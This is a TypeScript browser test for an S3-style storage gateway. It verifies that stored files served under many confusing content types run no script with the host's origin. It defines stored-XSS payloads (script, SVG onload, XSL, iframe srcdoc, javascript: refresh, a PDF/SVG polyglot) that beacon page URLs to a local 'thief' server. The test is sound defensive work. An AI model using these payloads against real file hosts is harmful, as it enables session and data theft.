import { createServer } from 'node:http'
import type { Page } from 'puppeteer-core'
import t, { type Test } from 'tap'
import { presignQuery } from '../../common/sigv4.js'
import { type Dealgate, startDealgate } from '../support/server/dealgate.js'
import { listen } from '../support/server/listen.js'
import { send } from '../support/sign/send.js'
import { until } from '../support/waiting.js'
import { openPage, startBrowser } from './browser.js'

/** Types by which a browser could take a stored page for a page of the host that it comes from. */
const TYPES = [
  ...['text/html', 'TEXT/HTML;charset=utf-8', 'application/xhtml+xml', 'image/svg+xml', 'text/xml', ''],
  ...['application/pdf, text/html', 'application/pdf,text/html', 'application/pdf;,text/html', ', text/html'],
  ...[
    'application/pdf; a="b, text/html"',
    'application/pdf\t, text/html',
    '\ttext/html',
    'application/pdf;a, text/html;b',
  ],
  ...['text/html;application/pdf', 'text/html, application/pdf', 'application/pdf text/html', 'multipart/mixed'],
]

/** Reports when it runs, and what it may do: a beacon is sent even if the browser leaves the page at once. */
const pageFor = (url: string) => `<!doctype html><html xmlns="http://www.w3.org/1999/xhtml"><title>page</title><script>
  var found = '/ran'
  try { localStorage.length; found = '/authority' } catch {}
  navigator.sendBeacon('${url}' + found, location.href)
</script></html>`

t.test('no stored bytes run with the authority of the host that they come from', async (t) => {
  const browser = await startBrowser(t)
  if (!browser) return
  const server = await startDealgate(t)
  const taken: string[] = []
  const thief = createServer((incoming, outgoing) => {
    const from: Buffer[] = []
    incoming.on('data', (bytes: Buffer) => from.push(bytes))
    incoming.on('end', () => {
      taken.push(`${incoming.url} of ${Buffer.concat(from)}`)
      outgoing.writeHead(204).end()
    })
  })
  const url = await listen(thief)
  t.teardown(() => thief.close())
  const body = Buffer.from(pageFor(url))
  await send(server, { method: 'PUT', target: '/pages' })
  const page = await openPage(browser)
  const visit = visitor(page)

  await t.test('by the type that is stored, at the S3 endpoint and at the port of the gateway', async (t) => {
    for (const [i, type] of TYPES.entries()) {
      const target = `/pages/page-${i}`
      await send(server, { method: 'PUT', target, headers: { 'content-type': type }, body })
      await visit(t, presigned(server, target), `${JSON.stringify(type)} at the endpoint`)
      await visit(t, await shared(server, target), `${JSON.stringify(type)} by a share link`)
    }
  })
  await t.test('by the type that a link asks for', async (t) => {
    const target = '/pages/plain'
    await send(server, { method: 'PUT', target, headers: { 'content-type': 'application/octet-stream' }, body })
    for (const type of TYPES)
      await visit(t, presigned(server, target, [['response-content-type', type]]), JSON.stringify(type))
  })
  await t.test('by documents that carry script otherwise, in links that show them', async (t) => {
    const inline: [string, string] = ['response-content-disposition', "inline; filename*=UTF-8''page"]
    for (const [name, type, text] of documents(url, (key) => presigned(server, `/pages/${key}`))) {
      const target = `/pages/${name}`
      await send(server, { method: 'PUT', target, headers: { 'content-type': type }, body: Buffer.from(text) })
      await visit(t, presigned(server, target, [inline]), `${name} as ${type}`)
    }
    // The one type without a sandbox. Its viewer gets the bytes, and no page is made of them.
    const asPdf = presigned(server, '/pages/plain', [inline, ['response-content-type', 'application/pdf']])
    const answer = await page.goto(asPdf).catch(() => undefined)
    if (answer) t.match(answer.headers(), { 'content-type': 'application/pdf', 'x-content-type-options': 'nosniff' })
  })
  // What had run would have reported before these: the page runs where nothing, or the sandbox alone, prevents it.
  // The page is one that runs where nothing prevents it.
  const other = createServer((incoming, outgoing) => {
    const sandbox = incoming.url === '/sandbox' ? { 'content-security-policy': 'sandbox allow-scripts' } : {}
    outgoing.writeHead(200, { 'content-type': 'text/html', ...sandbox }).end(body)
  })
  const address = await listen(other)
  t.teardown(() => other.close())
  for (const path of ['/sandbox', '/plain']) await page.goto(`${address}${path}`)
  await until('the pages of another server have reported', () => taken.length >= 2)
  t.same(taken.toSorted(), [`/authority of ${address}/plain`, `/ran of ${address}/sandbox`], 'nothing else ran')
})

/** Documents that run script in browsers, where nothing prevents it: [name, type, text]. */
function documents(url: string, at: (key: string) => string): readonly (readonly [string, string, string])[] {
  const script = `<script xmlns="http://www.w3.org/1999/xhtml">navigator.sendBeacon('${url}/ran', location.href)</script>`
  const sheet = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html>${script}</html></xsl:template></xsl:stylesheet>`
  const svg = `<svg xmlns="http://www.w3.org/2000/svg" onload="navigator.sendBeacon('${url}/ran', 'svg')">${script}</svg>`
  return [
    ['drawing.svg', 'image/svg+xml', svg],
    ['page.xhtml', 'application/xhtml+xml', `<html xmlns="http://www.w3.org/1999/xhtml">${script}</html>`],
    ['sheet.xsl', 'text/xsl', sheet],
    [
      'list.xml',
      'application/xml',
      `<?xml version="1.0"?><?xml-stylesheet type="text/xsl" href="${at('sheet.xsl').replaceAll('&', '&amp;')}"?><a/>`,
    ],
    [
      'frame.html',
      'text/html',
      `<iframe srcdoc="${script.replaceAll('"', '&quot;')}"></iframe><meta http-equiv="refresh" content="0;url=javascript:alert(1)">`,
    ],
    ['paper.pdf', 'application/pdf, image/svg+xml', `%PDF-1.4\n${svg}`],
  ]
}

/** Opens an address as a person does. A browser saves what it does not show, which aborts the visit. */
function visitor(page: Page) {
  return async (t: Test, url: string, name: string): Promise<void> => {
    const answer = await page.goto(url).catch(() => undefined)
    if (!answer) return
    t.equal(answer.status(), 200, name)
    t.match(answer.headers()['content-security-policy'], /\bsandbox\b/, name)
    t.equal(answer.headers()['x-content-type-options'], 'nosniff', name)
  }
}

function presigned(server: Dealgate, path: string, query: [string, string][] = []): string {
  const { endpoint, accessKey: accessKeyId, secretKey: secretAccessKey, region } = server
  const signed = presignQuery({
    ...{ brand: 'Amz', method: 'GET', path, host: new URL(endpoint).host, accessKeyId, secretAccessKey, region },
    ...{ expires: 300, now: new Date(), query },
  })
  return `${endpoint}${path}?${signed}`
}

async function shared(server: Dealgate, target: string): Promise<string> {
  const { body } = await send(server, { method: 'POST', target: `${target}?format=json&x-share=` })
  return JSON.parse(body.toString()).Url
}
